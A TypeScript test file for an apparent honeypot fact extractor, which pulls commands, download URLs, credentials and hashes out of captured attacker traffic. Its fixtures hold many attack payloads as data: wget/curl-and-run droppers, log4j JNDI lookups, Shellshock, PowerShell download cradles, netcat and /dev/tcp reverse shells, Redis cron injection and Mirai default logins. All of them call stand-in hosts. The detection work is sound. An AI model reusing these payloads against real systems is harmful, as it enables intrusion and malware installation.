// Facts out of what attackers really send, and nothing out of what ordinary clients send.

import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import test from 'node:test';
import { factView } from '../../../test/support/fact-view.ts';
import type { Fact, FactKind } from '../../model/fact.ts';
import { extractFacts } from './extract-facts.ts';
import { factLimit } from './fact-list.ts';

type Found = Partial<Record<FactKind, string[]>>;

function group(facts: readonly Fact[]): Found {
  const found: Found = {};
  for (const { kind, value } of facts) {
    found[kind] ??= [];
    found[kind].push(value);
  }
  return found;
}

const facts = (...said: Parameters<typeof factView>): Found => group(extractFacts(factView(...said), []));

const base64 = (text: string, encoding: BufferEncoding = 'utf8'): string => Buffer.from(text, encoding).toString('base64');
const get = (target: string, headers = ''): string => `GET ${target} HTTP/1.1\r\n${headers}\r\n`;
const post = (target: string, body: string, headers = ''): string =>
  `POST ${target} HTTP/1.1\r\nContent-Length: ${body.length}\r\n${headers}\r\n${body}`;

test('a command in a query string', () => {
  assert.deepEqual(
    facts(
      get('/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.9/jaws;sh+/tmp/jaws', 'User-Agent: Hello, world\r\nHost: 192.0.2.1\r\n'),
    ),
    {
      url: ['http://192.0.2.9/jaws'],
      command: ['cd /tmp', 'rm -rf *', 'wget http://192.0.2.9/jaws', 'sh /tmp/jaws'],
      'user-agent': ['Hello, world'],
      address: ['192.0.2.9'],
      path: ['/shell'],
    },
  );
});

test('requests in lower case, and behind many others', () => {
  const hidden = 'cd /tmp; wget http://198.51.100.9/a.sh';
  const target = `/?cmd=${encodeURIComponent(hidden)}`;
  assert.deepEqual(facts(get(target).replace('GET', 'get')).command, facts(get(target)).command);
  assert.deepEqual(facts(`${get('/').repeat(300)}${get(target)}`).url, ['http://198.51.100.9/a.sh']);
  // What a shell was told is no request of HTTP's first version.
  assert.equal(facts('get /etc/passwd\r\n').path, undefined);
});

test('a command in XML, with its namespaces left out', () => {
  const body =
    '<?xml version="1.0" ?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><NewStatusURL>$(/bin/busybox wget -g ' +
    '192.0.2.9 -l /tmp/mips -r /mips; /bin/busybox chmod 777 /tmp/mips)</NewStatusURL><x>$(echo HUAWEIUPNP)</x></s:Envelope>';
  const found = facts(post('/ctrlt/DeviceUpgrade_1', body, 'Authorization: Digest username="dslf-config", realm="x"\r\n'));
  assert.deepEqual(found.url, ['http://192.0.2.9/mips']);
  assert.deepEqual(found.credential, ['dslf-config:']);
  assert.deepEqual(found.command, ['/bin/busybox wget -g 192.0.2.9 -l /tmp/mips -r /mips', '/bin/busybox chmod 777 /tmp/mips']);
});

test('log4j look-ups, folded, with what their path hides', () => {
  const hidden = base64('curl -s http://192.0.2.7/lh.sh|bash');
  const found = facts(
    get(
      `/?x=\${\${lower:j}\${::-n}d\${env:BAR:-i}:\${lower:l}dap://\${hostName}.evil.example.com:1389/Basic/Command/Base64/${hidden}}`,
      `User-Agent: \${jndi:rmi://192.0.2.10:1099/a}\r\nReferer: https://www.example.org/x\r\nHost: victim.example.net\r\n`,
    ),
  );
  assert.deepEqual(found.url, [
    `ldap://\${hostName}.evil.example.com:1389/Basic/Command/Base64/${hidden}`,
    'http://192.0.2.7/lh.sh',
    'rmi://192.0.2.10:1099/a',
  ]);
  assert.deepEqual(found.command, ['curl -s http://192.0.2.7/lh.sh', 'bash']);
  assert.deepEqual(found.domain, ['evil.example.com']);
});

test('every way in, for the same URL', () => {
  const url = 'http://192.0.2.9/a.sh';
  const command = `wget ${url} -O /tmp/a`;
  const encoded = encodeURIComponent(command);
  for (const request of [
    get(`/cgi-bin/x?host=;${encoded}`),
    get(`/cgi-bin/x?host=%60${encoded}%60`),
    get(`/cgi-bin/x?host=$(${encoded})`),
    get(`/cgi-bin/x?host=${encodeURIComponent(`;${encoded}`)}`),
    get(`/cgi-bin/;${command.replaceAll(' ', `\${IFS}`)}`),
    get(`/cgi-bin/;${command.replaceAll(' ', '$IFS$9')}`),
    get('/', `User-Agent: () { :;}; /bin/bash -c "${command}"\r\n`),
    post('/x', `a=1&ip=;${encoded};`),
    post('/x', `{"a":[{"b":"x;${command}"}]}`),
    post('/x', `{"a":"x;${command.replaceAll('/', '\\u002f')}"}`),
    post('/x', `{"broken:"x;${command}`),
    post('/x', `{"Cmd":["/bin/sh","-c","${command}"]}`),
    post('/x', `<a><b>&#x3b;${command.replaceAll('/', '&#47;')}</b></a>`),
    post('/x', `<?php system('${command}'); ?>`),
    post('/x', `<string>/bin/sh</string><string>-c</string><string>${command}</string>`),
    post(
      '/x',
      `--Z\r\nContent-Disposition: form-data; name="a"\r\n\r\n;${command}\r\n--Z--`,
      'Content-Type: multipart/form-data; boundary=Z\r\n',
    ),
    post('/x', `x=${encodeURIComponent(base64(`echo 1; ${command}`))}`),
    `POST /x HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n${(command.length + 2).toString(16)}\r\n;;${command}\r\n0\r\n\r\n`,
    `\x00\x01binary\x00x;${command}\x00more`,
    `*3\r\n$3\r\nSET\r\n$1\r\n1\r\n$9\r\n\n\n*/2 * * * * root ${command}\n\n\r\n`,
  ]) {
    const found = facts(request);
    assert.deepEqual(found.url, [url], request);
    assert.ok(found.command?.includes(command), `${request}: ${found.command}`);
  }
});

test('what ordinary clients send holds no command and no download', () => {
  for (const request of [
    get('/search?q=cat+videos;+ping+pong', 'User-Agent: curl/7.68.0\r\nCookie: a=b; path=/; id=5; type=x; echo=1\r\n'),
    get(
      '/',
      'User-Agent: Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)\r\nReferer: https://example.org/a\r\n',
    ),
    get('/?utm_source=mail&utm_campaign=find+the+best+host+and+test+it', 'Accept: text/html;q=0.9,*/*;q=0.8\r\n'),
    post(
      '/api',
      '{"title":"How to use wget and curl","text":"run the tests; then type more"}',
      'Content-Type: application/json\r\n',
    ),
    post('/x', '<?xml version="1.0"?><a xmlns="http://www.w3.org/2001/XMLSchema">cat &amp; dog; host or test</a>'),
    'EHLO mail.example.org\r\nMAIL FROM:<a@example.org>\r\n',
    'OPTIONS rtsp RTSP/1.0\r\nCSeq: 1\r\n\r\n',
  ]) {
    const found = facts(request);
    assert.deepEqual([found.command, found.url, found.hash], [undefined, undefined, undefined], request);
  }
});

test('Telnet: the attempts, then the shell', () => {
  const input =
    '\xff\xfd\x01root\r\nxc3511\r\n\xff\xfa\x1f\x00\x50\xff\xf0admin\r\n\r\nenable\r\n/bin/busybox MIRAI\r\ncd /tmp || cd /var/run; ' +
    'wget 192.0.2.9/bins.sh -O - | sh; tftp -g -r mips 192.0.2.9; ftpget -v -u a -p b -P 2121 192.0.2.9 x.sh y.sh\r\n';
  const found = facts(input, { protocol: 'telnet' }, 'login: Password: \r\nLogin incorrect\r\nlogin: Password: ');
  assert.deepEqual(found.credential, ['root:xc3511', 'admin:']);
  assert.deepEqual(found.url, ['http://192.0.2.9/bins.sh', 'tftp://192.0.2.9/mips', 'ftp://192.0.2.9:2121/y.sh']);
  assert.deepEqual(found.command?.slice(0, 5), [
    'enable',
    '/bin/busybox MIRAI',
    'cd /tmp',
    'cd /var/run',
    'wget 192.0.2.9/bins.sh -O -',
  ]);
  const silent = facts('root\r\nvizxv\r\nenable\r\nsystem\r\nshell\r\n', { protocol: 'telnet' });
  assert.deepEqual(silent.credential, ['root:vizxv']);
  assert.deepEqual(silent.command, ['enable', 'system', 'shell']);
});

test('what the record says itself counts, and is not read twice', () => {
  const found = facts(
    'USER x\r\nPASS y\r\n',
    {
      protocol: 'ftp',
      userName: 'root',
      password: '2',
      credentials: [{ userName: 'root', password: '1' }, { password: 'ü\x1b[2J' }],
      tls: { version: 'TLSv1.3', ja3: 'a'.repeat(32), ja4: 't13d', serverName: 'example.org' },
      facts: [{ kind: 'hassh', value: 'b'.repeat(32) }],
    },
    '',
  );
  assert.deepEqual(found.credential, ['root:1', ':ü\\x1b[2J', 'root:2']);
  assert.deepEqual(
    [found.ja3, found.ja4, found['tls-name'], found.hassh],
    [['a'.repeat(32)], ['t13d'], ['example.org'], ['b'.repeat(32)]],
  );
});

test('logins of line protocols, Redis, HTTP and SIP', () => {
  const plain = base64('\0me\0secret');
  assert.deepEqual(facts('USER a\r\nPASS b c\r\nPASS d\r\n', { protocol: 'ftp' }).credential, ['a:b c', 'a:d']);
  assert.deepEqual(facts(`AUTH PLAIN ${plain}\r\nAUTH PLAIN\r\n${base64('\0you\0x')}\r\n`, { protocol: 'smtp' }).credential, [
    'me:secret',
    'you:x',
  ]);
  assert.deepEqual(facts(`AUTH LOGIN\r\n${base64('u')}\r\n${base64('p')}\r\n`, { protocol: 'smtp' }).credential, ['u:p']);
  assert.deepEqual(facts('a1 LOGIN "u" "p"\r\na2 LOGIN v q\r\n', { protocol: 'imap' }).credential, ['u:p', 'v:q']);
  assert.deepEqual(facts(`a1 AUTHENTICATE PLAIN ${plain}\r\n`, { protocol: 'imap' }).credential, ['me:secret']);
  assert.deepEqual(
    facts('AUTH x\r\n*2\r\n$4\r\nAUTH\r\n$1\r\ny\r\n*3\r\n$4\r\nauth\r\n$1\r\nu\r\n$1\r\np\r\n', { protocol: 'redis' })
      .credential,
    [':x', ':y', 'u:p'],
  );
  assert.deepEqual(facts(get('/', `Authorization: Basic ${base64('admin:a:b')}\r\n`)).credential, ['admin:a:b']);
  assert.deepEqual(facts(post('/login.cgi', 'username=admin&psd=Feefifo%21&x=1')).credential, ['admin:Feefifo!']);
  assert.deepEqual(facts(post('/login', '{"password":"p","username":"u"}')).credential, ['u:p']);
  assert.deepEqual(
    facts(
      post(
        '/xmlrpc.php',
        '<methodCall><methodName>wp.getUsersBlogs</methodName><value>joe</value><value>doe</value></methodCall>',
      ),
    ).credential,
    ['joe:doe'],
  );
  assert.deepEqual(
    facts(
      'REGISTER sip:192.0.2.1 SIP/2.0\r\nFrom: <sip:100@192.0.2.1>\r\nAuthorization: Digest username="100", nonce="x"\r\nUser-Agent: pplsip\r\n\r\n',
    ),
    { credential: ['100:'], 'user-agent': ['pplsip'] },
  );
});

test('SSH says its name and its algorithms', () => {
  const list = (text: string): Buffer => Buffer.concat([Buffer.from([0, 0, 0, text.length]), Buffer.from(text)]);
  const lists = ['kex', 'keys', 'enc-c', 'enc-s', 'mac-c', 'mac-s', 'comp-c', 'comp-s', '', ''];
  const payload = Buffer.concat([Buffer.from([20]), Buffer.alloc(16, 7), ...lists.map(list), Buffer.alloc(5)]);
  const packet = Buffer.alloc(5 + payload.length + 4);
  packet.writeUInt32BE(1 + payload.length + 4, 0);
  packet[4] = 4;
  payload.copy(packet, 5);
  const found = facts(Buffer.concat([Buffer.from('SSH-2.0-Go\r\n'), packet]));
  assert.deepEqual(found, { client: ['SSH-2.0-Go'], hassh: [createHash('md5').update('kex;enc-c;mac-c;comp-c').digest('hex')] });
  assert.deepEqual(facts(Buffer.concat([Buffer.from('SSH-2.0-Go\r\n'), packet.subarray(0, 60)])), { client: ['SSH-2.0-Go'] });
  assert.deepEqual(facts('SSH-2.0-x\r\nuname -a;nproc\n', { protocol: 'ssh' }).command, ['uname -a', 'nproc']);
  const forwarded = facts(`SSH-2.0-x\r\n${get('/proxied', 'Host: a.example\r\n')}`, { protocol: 'ssh', tags: ['direct-tcpip'] });
  assert.deepEqual([forwarded.path, forwarded.command], [['/proxied'], undefined]);
});

test('uploads are named and hashed, unless they were cut', () => {
  const content = '<?php echo 1; ?>';
  const sha256 = createHash('sha256').update(content).digest('hex');
  const body = `--Z\r\nContent-Disposition: form-data; name="f"; filename="s.php"\r\n\r\n${content}\r\n--Z--\r\n`;
  const request = post('/upload', body, 'Content-Type: multipart/form-data; boundary="Z"\r\n');
  assert.deepEqual([facts(request).file, facts(request).hash], [['s.php'], [sha256]]);
  assert.equal(facts(request, { truncated: true }).hash, undefined);
  assert.deepEqual(facts(`PUT /s.jsp HTTP/1.1\r\nContent-Length: ${content.length}\r\n\r\n${content}`).hash, [sha256]);
  const message = (name: string, data: Buffer): Buffer => {
    const head = Buffer.alloc(24);
    head.write(name, 0);
    head.writeUInt32LE(data.length, 12);
    head.writeUInt32LE((head.readUInt32LE(0) ^ 0xffffffff) >>> 0, 20);
    return Buffer.concat([head, data]);
  };
  const sync = (id: string, data: Buffer, size = data.length): Buffer => {
    const head = Buffer.from(`${id}\0\0\0\0`);
    head.writeUInt32LE(size, 4);
    return Buffer.concat([head, data]);
  };
  const file = Buffer.concat([
    sync('SEND', Buffer.from('/data/local/tmp/x,33261')),
    sync('DATA', Buffer.from(content)),
    sync('DONE', Buffer.alloc(0), 99),
  ]);
  const pushed = facts(
    Buffer.concat([
      message('CNXN', Buffer.from('host::\0')),
      message('OPEN', Buffer.from('sync:\0')),
      message('WRTE', file.subarray(0, 20)),
      message('WRTE', file.subarray(20)),
      message('OPEN', Buffer.from('shell:cd /data/local/tmp; wget http://192.0.2.9/a\0')),
    ]),
    { protocol: 'adb' },
  );
  assert.deepEqual(pushed.file, ['/data/local/tmp/x']);
  assert.deepEqual(pushed.hash, [sha256]);
  assert.deepEqual(pushed.command, ['cd /data/local/tmp', 'wget http://192.0.2.9/a']);
});

test('hosts in every form', () => {
  assert.deepEqual(facts('x;wget http://3221225993/a;wget http://[2001:DB8::9]:80/a;', {}).address, ['192.0.2.9', '2001:db8::9']);
  assert.deepEqual(facts('x;nc 192.0.2.4 4444 -e /bin/sh;nslookup abc.oast.example;', { protocol: 'shell' }).domain, [
    'abc.oast.example',
  ]);
  assert.deepEqual(facts(get('/?a=;bash+-i+>%26+/dev/tcp/192.0.2.44/4444+0>%261')).address, ['192.0.2.44']);
  assert.deepEqual(facts('CONNECT mail.example.org:25 HTTP/1.1\r\n\r\n').domain, ['mail.example.org']);
  assert.deepEqual(facts(Buffer.from([4, 1, 0, 80, 192, 0, 2, 77, 0]), { protocol: 'socks4' }).address, ['192.0.2.77']);
  assert.deepEqual(
    facts(Buffer.from(`\x05\x01\x00\x05\x01\x00\x03\x0bexample.org\x00\x50`, 'latin1'), { protocol: 'socks5' }).domain,
    ['example.org'],
  );
  const query = Buffer.from('000001000001000000000000076578616d706c65036f72670000010001', 'hex');
  assert.deepEqual(facts(query, { protocol: 'dns', transport: 'udp' }).domain, ['example.org']);
});

test('the decoy itself and addresses of no machine are no call-back', () => {
  const found = facts(get('http://192.0.2.1/x?a=;wget+192.0.2.1/y;nc+127.0.0.1+80;wget+http://0.0.0.0/z;curl+http://192.0.2.2/'));
  assert.deepEqual([found.url, found.address], [['http://192.0.2.2/'], ['192.0.2.2']]);
});

test('PowerShell, and hashes by name', () => {
  const script = "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.4/a.ps1')";
  const found = facts(get(`/?cmd=powershell+-enc+${encodeURIComponent(base64(script, 'utf16le'))}`));
  assert.deepEqual(found.url, ['http://192.0.2.4/a.ps1']);
  assert.ok(found.command?.includes(script));
  const md5 = 'd41d8cd98f00b204e9800998ecf8427e';
  assert.deepEqual(facts(`echo "${md5.toUpperCase()} x" | md5sum -c; [ $(md5sum x) = ${md5} ]`, { protocol: 'shell' }).hash, [
    md5,
  ]);
});

test('quotes keep a command together, and a shell in a shell is looked into', () => {
  const found = facts(
    `awk '{print $1; print $2;}' /proc/x | wc -l\nsh -c "cd /tmp; curl -O http://192.0.2.5/x"\necho 'never closed; id\n`,
    { protocol: 'shell' },
  );
  assert.deepEqual(found.command, [
    "awk '{print $1; print $2;}' /proc/x",
    'wc -l',
    'cd /tmp',
    'curl -O http://192.0.2.5/x',
    "echo 'never closed",
    'id',
  ]);
  assert.deepEqual([found.url, found.file], [['http://192.0.2.5/x'], undefined]);
});

test('commands in calls, and in UTF-16', () => {
  assert.deepEqual(facts(get('/?x=%24%7B%40java.lang.Runtime%40getRuntime().exec(%22id%22)%7D')).command, ['id']);
  const query = Buffer.from("EXEC xp_cmdshell 'certutil -urlcache -f http://192.0.2.3/a a.exe'", 'utf16le');
  const found = facts(Buffer.concat([Buffer.from([1, 1, 0, 160, 0, 0, 1, 0]), query]), { protocol: 'mssql' });
  assert.deepEqual(found.command, ['certutil -urlcache -f http://192.0.2.3/a a.exe']);
  assert.deepEqual(found.url, ['http://192.0.2.3/a']);
});

test('what rules captured counts', () => {
  const hit = {
    rule: 'r',
    name: 'r',
    intention: 'exploit',
    severity: 'high',
    tags: [],
    cves: [],
    techniques: [],
    captures: {
      url: 'http://192.0.2.6/x',
      command: 'cd /tmp; tftp -g -r y 192.0.2.2',
      address: '192.0.2.9/4444',
      file: 'z',
      odd: 'w',
    },
  } as const;
  assert.deepEqual(group(extractFacts(factView(''), [hit])), {
    url: ['http://192.0.2.6/x', 'tftp://192.0.2.2/y'],
    command: ['cd /tmp', 'tftp -g -r y 192.0.2.2'],
    file: ['z'],
    address: ['192.0.2.6', '192.0.2.2', '192.0.2.9'],
  });
});

test('one kind in plenty leaves room for the others', () => {
  const commands = Array.from({ length: 300 }, (_, index) => `echo ${index}`).join('\r\n');
  const found = facts(`${commands}\r\n`, {
    protocol: 'shell',
    credentials: Array.from({ length: 200 }, (_, index) => ({ userName: `u${index}`, password: 'p' })),
  });
  assert.equal((found.command?.length ?? 0) + (found.credential?.length ?? 0), factLimit);
  assert.ok((found.credential?.length ?? 0) >= 10 && (found.command?.length ?? 0) >= 12);
});
